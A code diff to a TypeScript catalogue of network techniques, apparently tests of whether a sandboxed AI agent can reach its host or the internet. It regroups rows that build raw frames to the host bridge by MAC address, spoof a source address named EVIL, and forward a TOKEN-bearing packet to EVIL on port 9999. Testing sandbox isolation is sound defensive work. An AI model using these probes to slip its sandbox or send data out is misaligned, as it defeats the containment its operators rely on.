@@ -135,11 +135,6 @@ export const host: TechniqueClass = {
       "[http(get(address, '/' + TOKEN)) for address in HOSTS if ':' not in address] and None",
     ],
     [
-      "host-bridge-mac",
-      "a datagram handed to the bridge by its MAC address",
-      "[by(BRIDGE_MAC, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address]",
-    ],
-    [
       "host-bridge-mac-syn",
       "a connection handed to the bridge by its MAC address",
       "[by(BRIDGE_MAC, ipv4(address, 6, tcp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address]",
@@ -147,19 +142,9 @@ export const host: TechniqueClass = {
       "the answer finds nobody who asked, so no connection comes to be",
     ],
     [
-      "host-bridge-mac-public",
-      "from a public address",
-      "[by(BRIDGE_MAC, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN, source=EVIL), source=EVIL)) for address in HOSTS if ':' not in address]",
-    ],
-    [
       "host-bridge-mac-forward",
       "a packet for the internet handed to the bridge",
       "by(BRIDGE_MAC, ipv4(EVIL, 17, udp_part(EVIL, 9999, TOKEN)))",
-    ],
-    [
-      "host-bridge-mac-v6",
-      "its link-local address, by its MAC address",
-      "by(BRIDGE_MAC, ipv6(link_local(BRIDGE_MAC), 17, udp_part(link_local(BRIDGE_MAC), HOSTPORT, TOKEN, source=link_local(own()))))",
     ],
     [
       "host-link-local",
@@ -175,10 +160,41 @@ export const host: TechniqueClass = {
       "shut",
       "the listener is not asked by a broadcast",
     ],
+  ],
+};
+
+const RAW = { openFor: ["root", "admin"] } as const;
+
+/** The engine's kernel takes what is handed to its bridge's MAC address. It needs raw sockets, which the agent has not. */
+export const bridge: TechniqueClass = {
+  name: "a frame for the host's bridge",
+  judged: "network",
+  plain: "internet",
+  alone: true,
+  rows: [
+    [
+      "host-bridge-mac",
+      "a datagram handed to the bridge by its MAC address",
+      "[by(BRIDGE_MAC, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address]",
+      RAW,
+    ],
+    [
+      "host-bridge-mac-public",
+      "from a public address",
+      "[by(BRIDGE_MAC, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN, source=EVIL), source=EVIL)) for address in HOSTS if ':' not in address]",
+      RAW,
+    ],
+    [
+      "host-bridge-mac-v6",
+      "its link-local address, by its MAC address",
+      "by(BRIDGE_MAC, ipv6(link_local(BRIDGE_MAC), 17, udp_part(link_local(BRIDGE_MAC), HOSTPORT, TOKEN, source=link_local(own()))))",
+      RAW,
+    ],
     [
       "host-broadcast-frame",
       "everybody on the link, for an address of the host",
       "[by(EVERYBODY, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address]",
+      RAW,
     ],
   ],
 };
